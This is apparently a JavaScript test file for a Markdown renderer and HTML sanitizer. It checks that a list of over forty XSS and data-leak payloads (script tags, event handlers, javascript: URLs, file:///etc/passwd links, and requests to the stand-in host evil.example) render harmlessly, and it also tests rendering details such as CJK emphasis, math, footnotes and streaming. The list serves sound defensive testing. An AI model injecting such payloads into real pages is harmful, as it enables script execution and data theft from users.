import assert from "node:assert/strict";
import { before, describe, test } from "node:test";
import { freshPage } from "./page.js";

freshPage();
const { attributes, cleanText, tags } = await import("../src/lib/clean.js");
const { settledLength, streamMarkdown } = await import("../src/lib/growing.js");
const { renderMarkdown } = await import("../src/lib/markdown.js");

/** @param {string} text */
const show = (text) => {
  const div = document.createElement("div");
  div.append(renderMarkdown(text));
  return div;
};

const attacks = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<a href=javascript:alert(1)>x</a>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox)",
  "[x](file:///etc/passwd)",
  "[x](smb://host/share)",
  "![x](javascript:alert(1))",
  "![x](https://evil.example/?q=secret)",
  "![x](//evil.example/a.png)",
  "![x][1]\n\n[1]: https://evil.example/b.png",
  "<img src='https://evil.example/c.png'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>@import url(https://evil.example/x.css)</style>",
  "<div style='background:url(https://evil.example)'>x</div>",
  "<form action=https://evil.example><input name=a></form>",
  "<button onclick=alert(1)>x</button>",
  "<details open ontoggle=alert(1)>",
  "<body onload=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<video src=https://evil.example/v.mp4 autoplay></video>",
  "<audio src=https://evil.example/a.mp3>",
  "<object data=https://evil.example></object>",
  "<embed src=https://evil.example>",
  "<base href=https://evil.example>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<math><mtext><script>alert(1)</script></mtext></math>",
  "<template><script>alert(1)</script></template>",
  "`<img src=x onerror=alert(1)>`",
  "```html\n<script>alert(1)</script>\n```",
  '```"><script>alert(1)</script>\nx\n```',
  "| <img src=x onerror=alert(1)> |\n|---|\n| <script>1</script> |",
  "> <img src=x onerror=alert(1)>",
  "# <script>alert(1)</script>",
  "<x id=getElementById name=body>",
  "[x](https://a.example 'onmouseover=alert(1)')",
  "<a href='https://a.example' onclick='alert(1)' target=_blank>x</a>",
];

describe("no text becomes a script, a handler or a request", () => {
  assert.ok(attacks.length >= 40);
  for (const text of attacks) {
    test(text.replaceAll("\n", " "), () => {
      const root = show(text);
      for (const node of root.querySelectorAll("*")) {
        assert.ok(
          !/^(script|iframe|object|embed|style|link|form|base|meta|video|audio|template|math|details|body|x|button)$/i.test(
            node.localName,
          ) || node.matches(".code-head button"),
          node.localName,
        );
        for (const { name, value } of node.attributes) {
          assert.ok(
            !/^on/i.test(name) && name !== "style" && name !== "id" && name !== "name" && name !== "srcdoc",
            `${name}=${value}`,
          );
          if (name === "href") assert.match(value, /^(https?:|mailto:)/i);
          if (name === "src") assert.match(value, /^data:image\//);
        }
      }
    });
  }
});

describe("Markdown", () => {
  test("cleans a text of the program's own and one of others by their own rules, whichever came before", () => {
    const own = { own: { follow() {}, picture: (/** @type {string} */ address) => address } };
    const shown = (options = {}) => {
      const div = document.createElement("div");
      div.append(renderMarkdown("[a](files.md) [b](mailto:a@b.example)", options));
      return [...div.querySelectorAll("a, button")].map((e) => e.textContent);
    };
    for (const _ of [1, 2]) {
      assert.deepEqual(shown(), ["b"]);
      assert.deepEqual(shown(own), ["a"]);
    }
  });

  test("HTML in a text is text", () => assert.equal(show("<b>bold</b>").textContent?.trim(), "<b>bold</b>"));
  test("an image elsewhere names its host", () =>
    assert.match(
      show("![a cat](https://cats.example/1.png)").textContent ?? "",
      /a cat, image from cats\.example, not loaded/,
    ));
  test("speech is set off, in straight and curly quotes, and not in code", () => {
    const spoken = [...show('"Stay," she says. “Go,” he says. `"no"`').querySelectorAll(".speech")].map(
      (n) => n.textContent,
    );
    assert.deepEqual(spoken, ['"Stay,"', "“Go,”"]);
  });
  test("headings stand below those of the page", () =>
    assert.equal(show("# One").querySelector("h3")?.textContent, "One"));
  test("a link goes to who asked for it, and nowhere by itself", () => {
    /** @type {string[]} */
    const followed = [];
    const div = document.createElement("div");
    div.append(renderMarkdown("[x](https://a.example/)", { onLink: (url) => followed.push(url) }));
    const click = new Event("click", { cancelable: true });
    div.querySelector("a")?.dispatchEvent(click);
    assert.deepEqual([followed, click.defaultPrevented], [["https://a.example/"], true]);
  });
  test("code keeps its text and can be copied", () => {
    const code = show("```js\nconst a = 1 < 2;\n```");
    assert.equal(code.querySelector("code")?.textContent?.trim(), "const a = 1 < 2;");
    assert.ok(code.querySelector('button[aria-label="Copy code"]'));
  });
});

describe("Markdown as it is meant", () => {
  /** @param {string} text */
  const html = (text) => show(text).innerHTML.trim();
  for (const [name, text, want] of /** @type {[string, string, string][]} */ ([
    ["full-width brackets", "**Markdown（マークダウン）**は", "<p><strong>Markdown（マークダウン）</strong>は</p>"],
    ["corners", "**重点**内容", "<p><strong>重点</strong>内容</p>"],
    ["a full stop", "**不变。**源码", "<p><strong>不变。</strong>源码</p>"],
    ["brackets in Korean", "자동차**(Car)**는", "<p>자동차<strong>(Car)</strong>는</p>"],
    ["struck text", "~~删除。~~这", "<p><del>删除。</del>这</p>"],
    ["a colon", "**Note:**text", "<p><strong>Note:</strong>text</p>"],
    ["several colons", "**A:**b and **C:**d *e*", "<p><strong>A:</strong>b and <strong>C:</strong>d <em>e</em></p>"],
    ["words with stars", "f**k … sh**t", "<p>f**k … sh**t</p>"],
    ["products", "2*3 and 4*5", "<p>2*3 and 4*5</p>"],
    ["an opening bracket", "*(*foo", "<p>*(*foo</p>"],
    ["ranges", "价格 100~200 元，最多 300~400 元", "<p>价格 100~200 元，最多 300~400 元</p>"],
    ["one tilde", "H~2~O in ~/a and ~/b", "<p>H~2~O in ~/a and ~/b</p>"],
  ]))
    test(`emphasis beside ${name}`, () => assert.equal(html(text), want));

  test("bold quotations beside words of Chinese", () =>
    assert.deepEqual(
      [...show("**“会引起”**渲染错误的**“已知问题”**").querySelectorAll("strong")].map((n) => n.textContent),
      ["“会引起”", "“已知问题”"],
    ));
  test("stars in formulas are none of the text's", () => {
    const div = show("$a*b_1$ and *so* $c*d_1$");
    assert.equal(div.querySelectorAll(".math").length, 2);
    assert.equal(div.querySelector("em")?.textContent, "so");
  });
  test("an address ends before marks of Chinese", () =>
    assert.deepEqual(
      [...show("见https://example.com/a。然后（https://example.com/b）结束").querySelectorAll("a")].map(
        (a) => a.textContent,
      ),
      ["https://example.com/a", "https://example.com/b"],
    ));
  test("fences within Markdown close before it does", () => {
    const div = show("```markdown\n# T\n```json\n{}\n```\nmore\n```\nafter");
    assert.equal(div.querySelectorAll("pre").length, 1);
    assert.equal(div.querySelector("code")?.textContent, "# T\n```json\n{}\n```\nmore\n");
    assert.equal(div.querySelector("p")?.textContent, "after");
  });
  test("a break in a cell breaks, and other tags are text", () => {
    const div = show("| a |\n|---|\n| x<br>y<b>z</b> |");
    assert.equal(div.querySelector("td")?.innerHTML, "x<br>y&lt;b&gt;z&lt;/b&gt;");
  });
  test("a footnote has its label, and a lone one stays", () => {
    const div = show("A[^1] b[^x].\n\n[^1]: It says *so*.");
    assert.equal(div.querySelector("sup")?.textContent, "1");
    assert.match(div.querySelector(".footnote")?.textContent ?? "", /^1\s*It says so\.\s*$/);
    assert.match(div.textContent ?? "", /b\[\^x\]\./, "one without a note is text");
    assert.match(show("[^1]: note").textContent ?? "", /1\s*note/);
  });
  test("formulas need no dollars, may hold empty lines and bars, and keep backslashes", () => {
    const tex = (/** @type {string} */ text) => [...show(text).querySelectorAll(".math")].map((n) => n.textContent);
    const align = "\\begin{align}\na &= b \\\\\n\nc &= d\n\\end{align}";
    assert.deepEqual(tex(`So:\n${align}\nand so on`), [align]);
    assert.deepEqual(tex("$|x|$ and $\\|v\\|$"), ["|x|", "\\|v\\|"]);
    assert.deepEqual(tex("$$\na\n\nb^2\n$$"), ["a\n\nb^2"]);
  });
  test("numbers, boxes and columns are kept", () => {
    const div = show("3. c\n4. d\n\n- [x] e\n\n| a |\n|--:|\n| 1 |");
    assert.equal(div.querySelector("ol")?.getAttribute("start"), "3");
    const box = div.querySelector("input");
    assert.deepEqual(
      [box?.type, box?.checked, box?.disabled, box?.getAttribute("aria-label")],
      ["checkbox", true, true, "e"],
    );
    assert.equal(div.querySelector("td")?.getAttribute("align"), "right");
  });
});

test("the cleaner keeps every element and attribute that its lists name", () => {
  const values = /** @type {Record<string, string>} */ ({
    href: "https://a.example/",
    src: "data:image/png;base64,AA==",
  });
  const said = attributes.map((name) => `${name}="${values[name] ?? "x"}"`).join(" ");
  const div = document.createElement("div");
  const rows = ["thead", "tbody", "tr", "th", "td"]; // the parser takes them only in a table
  const lone = tags.filter((tag) => !rows.includes(tag));
  const table = `<table ${said}><thead ${said}><tr ${said}><th ${said}></th></tr></thead><tbody ${said}><tr><td ${said}></td></tr></tbody></table>`;
  div.append(cleanText(lone.map((tag) => (tag === "table" ? table : `<${tag} ${said}></${tag}>`)).join("")));
  for (const tag of tags) {
    const kept = [...div.querySelectorAll(tag)].some((el) => attributes.every((name) => el.hasAttribute(name)));
    assert.ok(kept, `${tag}: ${div.querySelector(tag)?.outerHTML}`);
  }
});

test("what cannot be parsed is shown as it was written", () => {
  const text = `${">".repeat(20_000)} end`;
  assert.match(show(text).textContent ?? "", /end\s*$/);
});

describe("a text that grows", () => {
  const text =
    'First *paragraph* here.\n\n- one\n- two\n\n```js\nlet a = 1;\n\nlet b = 2;\n```\n\n"Speech," she says.\n\nThe [end](https://a.example/).\n';
  const frame = () => new Promise((done) => requestAnimationFrame(done));

  before(freshPage);
  test("ends as it would have looked at once", async () => {
    const box = document.createElement("div");
    const stream = streamMarkdown(box);
    for (let i = 1; i <= text.length; i += 7) {
      stream.update(text.slice(0, i));
      if (i % 5 === 0) await frame();
    }
    stream.done(text);
    while (!box.querySelector("[class^=hljs]")) await frame(); // the colours come when they are there
    assert.equal(box.innerHTML, show(text).innerHTML);
  });
  test("keeps the nodes of finished blocks", async () => {
    const box = document.createElement("div");
    const stream = streamMarkdown(box);
    stream.update("One.\n\nTwo.\n\nThree.\n\nFour");
    await frame();
    await frame();
    const first = box.firstElementChild;
    stream.update("One.\n\nTwo.\n\nThree.\n\nFour and more.\n\nFive.\n\nSix");
    await frame();
    await frame();
    assert.equal(box.firstElementChild, first);
    assert.match(box.textContent ?? "", /One\.\s*Two\.\s*Three\.\s*Four and more\.\s*Five\.\s*Six/);
  });
  test("goes on being Markdown after a definition, which later parts know", async () => {
    const box = document.createElement("div");
    const stream = streamMarkdown(box);
    const text = `[a]: https://a.example/\n\n${"See [it][a] and *more*.\n\n".repeat(1200)}`;
    for (let i = 500; i < text.length + 500; i += 500) {
      stream.update(text.slice(0, i));
      await frame();
    }
    assert.equal(box.querySelectorAll(".plain-slice").length, 0);
    assert.equal(box.querySelectorAll('a[href="https://a.example/"]').length, 1200);
  });
  test("keeps the nodes that already show the right thing when it ends", async () => {
    const box = document.createElement("div");
    const stream = streamMarkdown(box);
    const text = "One *two*.\n\n- a\n- b\n\n```js\nlet c;\n```\n\nSee [it][x], **bold**.\n\n[x]: https://a.example/";
    stream.update(text.slice(0, -1));
    await frame();
    const before = [...box.querySelectorAll("p, em, li, .code, strong")];
    stream.done(text);
    const after = [...box.querySelectorAll("p, em, li, .code, strong")];
    assert.ok(before.length > 5 && before.every((node, i) => node === after[i]));
    assert.equal(box.querySelector("a")?.textContent, "it");
  });
  test("only what cannot change any more is settled", () => {
    assert.equal(settledLength("One"), 0);
    assert.equal(settledLength("One.\n\nTwo."), 0);
    const text = "One.\n\nTwo.\n\nThree.";
    assert.equal(text.slice(0, settledLength(text)).trim(), "One.");
    assert.equal(settledLength("```\ncode\n\nmore"), 0);
    assert.equal(settledLength("```\ncode\n```"), 0);
    const code = "```\ncode\n```\nWords";
    assert.equal(code.slice(0, settledLength(code)).trim(), "```\ncode\n```", "a fence is closed for good");
    const open = "- One\n\nTwo:\n```js\ncode\n\nmore";
    assert.equal(open.slice(0, settledLength(open)), "- One\n\nTwo:\n", "what is before a fence stays");
    assert.equal(settledLength("Two:\n```on"), 0, "which may be code in a line");
  });
  test("adds to an open block of code, and keeps what is shown and coloured of it", async () => {
    const box = document.createElement("div");
    document.body.append(box);
    const stream = streamMarkdown(box);
    const grown = async (/** @type {string} */ text) => {
      stream.update(text);
      await frame();
      await frame();
      return /** @type {HTMLElement} */ (box.querySelector("code"));
    };
    const lines = Array.from({ length: 400 }, (_, i) => `const word${i} = "a";`);
    const first = await grown("Here:\n\n```js\nconst wo");
    for (let n = 10; n <= lines.length; n += 10) {
      const text = `${lines.slice(0, n).join("\n")}\n`;
      assert.equal(await grown(`Here:\n\n\`\`\`js\n${text}`), first, `after ${n} lines`);
      assert.equal(first.textContent, text);
    }
    while (!first.querySelector("[class^=hljs]")) await frame();
    await grown(`Here:\n\n\`\`\`js\n${lines.join("\n")}\n\`\``);
    assert.equal(first.textContent, `${lines.join("\n")}\n`, "what may close the fence is held back");
    const text = `Here:\n\n\`\`\`js\n${lines.join("\n")}\n\`\`\`\nAnd so on`;
    await grown(text);
    assert.equal(box.querySelectorAll("pre").length, 1);
    assert.equal(box.lastElementChild?.textContent?.trim(), "And so on");
    stream.done(text);
    while (!box.querySelector("[class^=hljs]")) await frame();
    assert.equal(box.querySelector("code")?.textContent, `${lines.join("\n")}\n`);
    box.remove();
  });
});
